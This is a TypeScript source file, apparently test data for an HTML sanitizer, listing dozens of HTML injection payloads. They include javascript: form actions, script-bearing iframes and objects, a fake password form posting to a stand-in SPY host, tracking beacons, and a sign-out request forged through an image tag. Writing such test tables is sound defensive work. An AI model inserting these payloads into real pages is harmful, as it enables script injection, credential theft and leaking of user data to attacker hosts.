// Attacks by forms, frames, plug-ins, and elements that navigate or send requests by themselves. `table.ts` fills in RUN,
// SPY, SPYHOST and APP.
export const FRAMES = {
	'a form': '<form action="SPY/form" method=post><input name=p type=password autofocus><button>Sign in</button></form>',
	'a form with an action that runs': '<form action="javascript:RUN"><button autofocus>x</button></form>',
	'a button with an action that runs': '<form><button formaction="javascript:RUN">x</button></form>',
	'an input with an action that runs':
		'<form><input type=submit formaction="javascript:RUN" value=x><input type=image src="SPY/input.png" formaction="javascript:RUN"></form>',
	'a button of a form elsewhere': '<form id=far action="javascript:RUN"></form><button form=far>x</button>',
	'a form that submits itself':
		'<form action="SPY/auto" id=auto><input name=a></form><img src=x onerror="document.forms[0].submit()">',
	'a form to a dialog':
		'<form method=dialog><button>x</button></form><dialog open><form action=SPY/d><button>y</button></form></dialog>',
	'a text area': '<textarea name=t autofocus onfocus=RUN></textarea>',
	'a select': '<select autofocus onfocus=RUN onchange=RUN><option onclick=RUN>a</select>',
	'a keygen and an isindex':
		'<keygen autofocus onfocus=RUN><isindex action="javascript:RUN" type=image><input autofocus onfocus=RUN>',
	'a label for a field of the app':
		'<label for=tag onclick=RUN>click</label><output for=a>x</output><fieldset disabled><legend onclick=RUN>y</legend></fieldset>',
	'an input for files':
		'<input type=file webkitdirectory><input type=color onclick=RUN><input list=l onfocus=RUN autofocus><datalist id=l><option>x</datalist>',
	'a frame': '<iframe src="SPY/frame"></iframe>',
	'a frame that runs': '<iframe src="javascript:RUN"></iframe>',
	'a frame with a page in it': '<iframe srcdoc="<script>RUN</script>"></iframe>',
	'a frame with a page in entities': '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
	'a frame with a page in a sandbox':
		'<iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc="<script>RUN</script>"></iframe>',
	'a frame set':
		'<frameset onload=RUN><frame src="javascript:RUN"></frameset><iframe srcdoc="<script>RUN</script>"></iframe>',
	'a fenced frame and a portal':
		'<fencedframe src="SPY/fenced"></fencedframe><portal src="SPY/portal"></portal><iframe src="SPY/f"></iframe>',
	'an object': '<object data="data:text/html,<script>RUN</script>"></object>',
	'an object elsewhere': '<object data="SPY/object" type=text/html></object>',
	'an object by a parameter':
		'<object type=text/html><param name=movie value="javascript:RUN"><param name=src value="SPY/param"></object><object data=SPY/o></object>',
	'an embed': '<embed src="SPY/embed" type=text/html>',
	'an embed that runs': '<embed src="javascript:RUN"><embed src="data:text/html,<script>RUN</script>" type=text/html>',
	'an applet': '<applet code=x archive="SPY/a.jar"></applet><bgsound src="SPY/s"><embed src="SPY/applet">',
	'a refresh': '<meta http-equiv=refresh content="0;url=SPY/refresh">',
	'a refresh that runs':
		'<meta http-equiv=refresh content="0;url=javascript:RUN"><meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
	'a style sheet': '<link rel=stylesheet href="SPY/sheet.css">',
	'a preload': '<link rel=preload as=image href="SPY/preload"><link rel=modulepreload href="SPY/module">',
	'a prefetch': '<link rel=prefetch href="SPY/prefetch"><link rel=prerender href="SPY/prerender">',
	'a connection in advance':
		'<link rel=preconnect href="SPY"><link rel=dns-prefetch href="//attack.invalid"><link rel=icon href="SPY/icon">',
	'an import and a manifest':
		'<link rel=import href="SPY/import"><link rel=manifest href="SPY/manifest"><link rel=stylesheet href="SPY/import.css">',
	'a tracking pixel': '<img src="SPY/pixel.gif" width=1 height=1><img src="SPY/pixel2.gif" style="display:none">',
	'a picture without a scheme': '<img src="//SPYHOST/pixel.png">',
	'a picture by srcset': '<img srcset="SPY/s1 1x, SPY/s2 2x" sizes=100vw>',
	'a picture by its sources':
		'<picture><source srcset="SPY/source.webp"><source media="(min-width:1px)" srcset="SPY/source2"><img src="SPY/fallback"></picture>',
	'a picture that loads later':
		'<img loading=lazy src="SPY/lazy"><img data-src="SPY/data-src" lowsrc="SPY/low" dynsrc="SPY/dyn" longdesc="SPY/long">',
	'a picture by old attributes':
		'<table background="SPY/table"><tr><td background="SPY/cell">x</td></tr></table><body background="SPY/body">',
	'a picture of the app':
		'<img src="/api/account/sign-out"><img src="APP/api/sync"><img src="/img/../api/x"><img src="SPY/own">',
	'a video':
		'<video src="SPY/v.mp4" autoplay poster="SPY/poster"></video><video><source src="SPY/v2.mp4"><track src="SPY/t.vtt" default></video>',
	'an audio': '<audio src="SPY/a.mp3" autoplay preload=auto></audio><audio><source src="SPY/a.ogg"></audio>',
	'a quotation that cites':
		'<blockquote cite="javascript:RUN">x</blockquote><q cite="SPY/cite">y</q><del cite="SPY/del">z</del><img src="SPY/cited">'
} as const;
